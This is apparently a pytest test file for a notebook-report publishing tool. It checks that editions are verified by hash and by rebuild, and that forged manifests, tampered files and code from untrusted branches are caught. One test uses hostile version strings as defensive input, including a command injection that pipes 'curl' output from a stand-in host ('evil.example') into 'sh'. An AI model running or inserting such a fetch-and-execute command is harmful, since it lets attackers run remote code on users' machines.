"""Editions that are compared with their recorded hashes and with a new build."""

import json
import re
import shutil
from functools import partial

import pytest
from command_line import command, refused
from small_edition import forge, relogged
from small_project import NAME, SOURCE, verified

from nbpress.core import files
from nbpress.core.errors import TipResearchError
from nbpress.editions import folders, manifests
from nbpress.engine import choice
from nbpress.inputs import project
from tipresearch.cli import proofs

#: Each test has an edition of its own, and most start a command.
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    """Where the folder of reports lies that the first of these tests has built."""
    return tmp_path_factory.mktemp("kept") / "reports"


@pytest.fixture
def edition(small, kept):
    """An edition of the project; later tests have a copy of the first, of the same project."""
    if kept.exists():
        shutil.copytree(kept, small.out, symlinks=True, dirs_exist_ok=True)
        return folders.latest(small.report)
    found, _ = small.build()
    shutil.copytree(small.out, kept, symlinks=True)
    return found


def differences(edition, **options):
    return {d.what: d for d in verified(edition, **options).differences}


def damaged(edition):
    """The files that are found changed, without a new build; an unreadable manifest is refused."""
    try:
        return set(differences(edition, rebuild=False))
    except TipResearchError as error:
        return set(re.findall(r"manifest\.json", str(error)))


def test_a_fresh_edition_is_verified_and_nothing_in_the_project_changes(small, edition):
    before = manifests.file_hashes(edition)
    done = command("verify", small.report / "latest")
    assert done.returncode == 0, done.stderr
    assert f"{edition.name} is verified by hash and by a new build: 11 files, 2 numbers." in done.stdout
    assert manifests.file_hashes(edition) == before
    assert sorted(p.name for p in small.home.iterdir()) == ["data", "notebooks", "reports"]


def test_what_a_notebook_shows_only_in_a_warm_kernel_is_a_difference(small, monkeypatch):
    monkeypatch.setenv(choice.VARIABLE, "warm")
    small.notebook(f"import sys\nprint('nbpress.engine.forked' in sys.modules)\n{SOURCE}")
    edition, _ = small.build()
    assert '"True\\n"' in (edition / "notebooks" / "small.ipynb").read_text("utf-8")
    found = verified(edition)
    assert "notebooks/small.ipynb" in [d.what for d in found.differences]
    assert "built again with a new Python for each notebook, by nothing" in found.remarks


def test_authors_on_the_front_page_are_part_of_the_edition_and_verified(small):
    shutil.copy(small.home / "notebooks" / "small.ipynb", small.home / "notebooks" / "front.ipynb")
    small.define(front="front", authors=["A. Author"], contact="the desk", licence="Mine.", language="ur")
    edition, _ = small.build()
    assert "A. Author" in (edition / "index.html").read_text("utf-8")
    assert not (edition / "front.html").exists()
    proven = command("verify", edition)
    assert proven.returncode == 0
    assert "other than reports/" not in proven.stdout
    small.define(front="front", authors=["B. Author"], contact="the desk")
    other, new = small.build()
    assert new
    assert other != edition
    manifests.seal(other, manifests.read_manifest(other) | {"authors": ["C. Forged"]})
    assert "index.html" in differences(other)


def test_one_changed_byte_in_any_file_is_found_without_a_new_build(edition):
    for path in sorted(p for p in edition.rglob("*") if p.is_file()):
        whole = path.read_bytes()
        for place in {0, len(whole) // 3, len(whole) // 2, len(whole) - 1}:
            path.write_bytes(whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1 :])
            name = path.relative_to(edition).as_posix()
            assert name in damaged(edition), (name, place)
        path.write_bytes(whole)
    assert damaged(edition) == set()


def test_a_change_in_any_line_of_the_manifest_is_found(edition, tmp_path):
    """Also in an edition that was sent alone, without its log."""
    edition = shutil.copytree(edition, tmp_path / edition.name)
    path = edition / "manifest.json"
    lines = path.read_text("utf-8").splitlines(keepends=True)
    for number, line in enumerate(lines):
        other = re.sub(r"[0-9a-z]", lambda m: "1" if m[0] == "0" else "0", line, count=1)
        if other != line:
            path.write_text("".join([*lines[:number], other, *lines[number + 1 :]]), "utf-8")
            assert "manifest.json" in damaged(edition), line


def test_a_changed_digit_is_named_with_its_indicator_and_both_values(edition):
    path = edition / "results.csv"
    path.write_text(path.read_text("utf-8").replace("15255.0", "15256.0"), encoding="utf-8")
    done = command("verify", edition, "--no-rebuild")
    assert done.returncode == 1
    (line,) = [line for line in done.stdout.splitlines() if line.startswith("count 'Women'")]
    assert all(part in line for part in ("value", "15255.0", "15256.0"))
    rebuilt = differences(edition)
    assert {w.partition(" [")[0] for w in rebuilt} >= {"results.csv", "count 'Women' (PAK, 2020)"}


def test_a_changed_input_is_named_with_both_hashes_and_the_numbers_that_it_moved(small, edition):
    recorded = manifests.read_manifest(edition)["inputs"]["data/figures.csv"]
    small.figures("15255", "16000")
    done = command("verify", edition)
    assert done.returncode == 1
    now = files.file_hash(small.home / "data" / "figures.csv")
    (line,) = [line for line in done.stdout.splitlines() if "input changed" in line]
    assert all(part in line for part in ("data/figures.csv", recorded, now))
    found = differences(edition)
    (number,) = [d for w, d in found.items() if w.startswith("count 'Women'")]
    assert (number.recorded, number.found) == ("15255.0", "16000.0")
    assert number.why == "data/figures.csv changed"
    # The fingerprint printed on the pages is no difference of its own.
    assert {"data/figures.csv", "results.csv", "results.json"} <= found.keys()
    assert "index.html" not in found


@pytest.mark.parametrize("named", ["no branch", "a tag", "merged"])
def test_a_commit_that_was_fetched_and_not_merged_is_never_run(small, named):
    """Neither a notebook nor data are taken from a stranger's branch, whatever names it."""
    small.commit()
    mark = small.home / "pwned"
    small.git("checkout", "-q", "-b", "stranger")
    small.notebook(f"open({str(mark)!r}, 'w').close()\n{SOURCE}")
    theirs = small.commit("theirs")
    edition, _ = small.build()
    mark.unlink()
    small.git("checkout", "-q", "-")
    if named == "a tag":
        small.git("tag", "theirs", "stranger")
    if named == "merged":
        small.git("merge", "-q", "stranger")
    small.git("branch", "-q", "-D", "stranger")
    assert small.git("cat-file", "-t", theirs) == "commit"
    small.notebook()
    found = verified(edition)
    assert mark.exists() == (named == "merged")
    if named == "merged":  # the notebook that changed since is taken from the commit
        assert found.differences == []
        assert [r for r in found.remarks if r.startswith("notebooks/small.ipynb has changed since; commit")]
    else:
        why = [d.why for d in found.differences if d.what == "notebooks/small.ipynb"]
        assert why[0] == f"input changed; commit {theirs[:10]} is not in the history that is checked out here"


def resealed(edition, **changes):
    """Change a manifest so that it agrees with itself, as a forger would; a field that becomes None is removed."""
    manifest = manifests.read_manifest(edition) | changes
    manifest = {k: v for k, v in manifest.items() if k not in changes or v is not None}
    (edition / "manifest.json").write_text(manifests.manifest_text(manifest), encoding="utf-8", newline="")
    relogged(edition)


def test_a_forged_manifest_that_agrees_with_itself_is_found(edition):
    recorded = manifests.read_manifest(edition)["files"]
    resealed(edition, files=None)
    assert differences(edition)["manifest.json, files"].found == "missing"
    resealed(edition, files=recorded, content_sha256="0" * 64)
    assert differences(edition, rebuild=False)["content_sha256"].recorded == "0" * 64


LONG = "a" * 900


@pytest.mark.parametrize(
    ("name", "message"), [(f"{LONG}/b.csv", "an input of "), (f"data_file: {LONG}", "input data_file: aaa")]
)
def test_an_input_with_a_name_that_no_file_can_have_is_refused(edition, name, message):
    resealed(edition, inputs={name: "0" * 64})
    refused(command("verify", edition), message)


def test_another_version_of_a_package_is_named_as_the_cause_of_a_difference(edition):
    manifest = manifests.read_manifest(edition)
    manifest["packages"]["pandas"] = "0.1"
    resealed(edition, packages=manifest["packages"])
    found = verified(edition)
    assert found.differences == []
    assert any("pandas 0.1 → " in r and "without effect" in r for r in found.remarks)
    resealed(edition, title="Forged", pages=manifest["pages"] | {"more": "Forged"})
    assert "package pandas 0.1 → " in verified(edition).differences[-1].why


def test_packages_that_came_or_went_together_are_counted():
    old = {"pandas": "3.0", "papermill": "2.6", "ruff": "1", "zmq": "1", "both": "1"}
    new = {"pandas": "3.1", "papermill": "2.6", "alabaster": "1", "Babel": "1", "sphinx": "9", "both": "1"}
    assert project.other_versions(old, new) == [
        "pandas 3.0 → 3.1",
        "alabaster and 2 others none → installed",
        "ruff and 1 other installed → none",
    ]
    assert project.other_versions({}, {"pandas": "3.1"}) == ["pandas none → 3.1"]


def test_a_page_of_changes_is_rebuilt_from_the_edition_before(small, edition):
    small.figures("15255", "16000")
    second, _ = small.build()
    assert verified(second).differences == []
    manifest = manifests.read_manifest(second)
    changes = (second / "changes.json").read_text("utf-8").replace("16000.0", "16001.0")
    (second / "changes.json").write_text(changes, encoding="utf-8")
    manifests.seal(second, manifest)  # hashes alone show it where the log stands
    assert list(differences(second, rebuild=False)) == [f"edition {second.name}, manifest.json"]
    relogged(second)
    assert differences(second, rebuild=False) == {}
    assert "changes.json" in differences(second)
    shutil.rmtree(edition)
    assert differences(second)["the edition before"].found == "gone or damaged"


def test_forged_reasons_for_changes_are_found_though_all_hashes_agree(small):
    small.commit()
    first, _ = small.build()
    small.figures("15255", "16000")
    small.commit("later")
    second, _ = small.build()
    (reason,) = manifests.read_manifest(second)["reasons"]
    assert (reason["file"], reason["rows"]) == ("data/figures.csv", ["women"])
    assert differences(second) == {}
    for said in ([], [reason | {"file": "data/other.csv"}], [reason | {"rows": ["men"]}]):
        forge(second, reasons=said)
        assert differences(second, rebuild=False) == {}
        found = differences(second)
        assert found.pop("manifest.json, reasons").recorded == '{"data/figures.csv": ["women"]}'
        assert found == {}
    assert verified(second, rebuild=False).asserted().endswith(f"reused, seconds, the numbers of {first.name} before")


def test_each_field_of_a_manifest_is_rebuilt_or_named_as_asserted(edition):
    manifest = manifests.read_manifest(edition)
    assert manifest.keys() <= manifests.KNOWN
    assert "built, clean, commit" in verified(edition).asserted()
    for name, value in {"reference_date": "2030-01-01", "pages": {"small": "Other"}}.items():
        manifests.seal(edition, manifest | {name: value})
        assert f"manifest.json, {name}" in differences(edition)


def test_a_title_or_author_other_than_in_the_definition_is_noted(small):
    """A build takes them from the manifest, so a forged title is built again on all pages."""
    small.define(authors=["A"])
    edition, _ = small.build()
    noted = partial(proofs._of_definition, manifests.read_manifest(edition))
    assert [*noted()] == []
    path, start = small.out / f"{NAME}.toml", "taken from the manifest, and other than reports/small.toml says now: "
    path.write_text('title = "Other"\nnotebooks = ["small"]\nlicence = "CC0"\n', encoding="utf-8")
    done = command("verify", edition)
    assert done.returncode == 0
    assert f"note: {start}title, authors, licence\n" in done.stdout
    small.define(authors=["A"], parameters={})
    path.write_text(path.read_text("utf-8").replace("{}", "{n = 2}"), encoding="utf-8")
    # Otherwise a report on 2020 could be made again for another year under the same title.
    assert [*noted()] == [f"{start}parameter n"]
    path.unlink()
    (alone,) = noted()
    assert "notebooks and parameters are taken from the manifest alone: report 'small' is not known" in alone


def test_what_cannot_be_verified_is_refused_in_one_line(small, edition, tmp_path):
    refused(command("verify", tmp_path), f"{tmp_path} is no edition: it has no manifest.json")
    refused(command("verify", tmp_path / "nowhere"), "is no edition")
    (tmp_path / "manifest.json").write_text("{", encoding="utf-8")
    refused(command("verify", tmp_path), "manifest.json is damaged")
    manifest = manifests.read_manifest(edition)
    (small.home / "data" / "figures.csv").unlink()
    digest = manifest["inputs"]["data/figures.csv"]
    refused(command("verify", edition), f"input data/figures.csv is missing; it had sha256 {digest}")
    old = {k: v for k, v in manifest.items() if k not in ("format", "tipresearch", "files", "manifest_sha256")}
    old |= {"packages": {"tipresearch": "0.0.9"}, "commit": "abc1234" * 5 + "abcde"}
    (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
    refused(command("verify", edition), "was made by an older version, tipresearch '0.0.9'")
    refused(
        command("verify", edition), "verify it with that version: install its wheel, from the same place as this one"
    )
    old["commit"] = small.commit()
    (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
    refused(command("verify", edition), f"verify it with that version: git checkout {old['commit']}")


@pytest.mark.parametrize("version", ["0.0.9 && curl -s http://evil.example/x | sh", "0.0.9 --index-url x", "0\n"])
def test_a_version_in_a_manifest_is_never_part_of_a_command(small, edition, version):
    manifest = manifests.read_manifest(edition) | {"format": manifests.FORMAT - 1, "commit": "0" * 40}
    resealed(edition, **manifest | {"tipresearch": "", "packages": {"tipresearch": version}})
    done = command("verify", edition)
    refused(done, f"tipresearch {version!r} (format ")
    resealed(edition, **manifest | {"tipresearch": version})
    refused(command("verify", edition), "is not a version of at most 50 letters, digits and")
    assert done.stderr.rstrip().endswith(
        "verify it with that version: install its wheel, from the same place as this one"
    )


def test_changed_code_is_named(edition):
    inputs = manifests.read_manifest(edition)["inputs"] | {"nbpress/core/errors.py": "0" * 64}
    resealed(edition, inputs=inputs, commit=None)
    assert {name: d.why for name, d in differences(edition).items()} == {"nbpress/core/errors.py": "code changed"}
